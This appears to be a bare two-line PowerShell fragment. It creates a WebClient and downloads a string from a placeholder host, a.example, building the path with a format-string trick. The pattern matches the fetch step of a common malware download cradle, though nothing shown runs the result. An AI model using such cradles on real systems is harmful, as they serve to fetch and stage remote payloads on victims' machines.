$wc = New-Object System.Net.WebClient
$wc.DownloadString(('http://a.example/p/{0:x1}.txt' -f 'x'))
